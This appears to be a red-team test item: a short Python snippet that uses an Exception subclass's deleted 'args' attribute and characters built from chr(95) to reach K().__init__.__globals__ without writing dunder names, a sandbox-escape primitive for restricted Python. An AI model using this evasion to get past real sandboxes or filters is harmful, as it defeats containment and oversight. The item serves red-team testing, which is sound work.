# family: red team, round 60b (class constant table 'args' deleted in the class body: self.args falls back to Exception args)
class K:
    def __init__(self):
        self.v = 1


class Spec(Exception):
    args = ("name", "value")
    del args

    def read(self, obj):
        out = obj
        for key in self.args:
            out = getattr(out, key)
        return out


u = chr(len("x" * 95)) * 2
print(Spec(u + "init" + u, u + "globals" + u).read(K()))
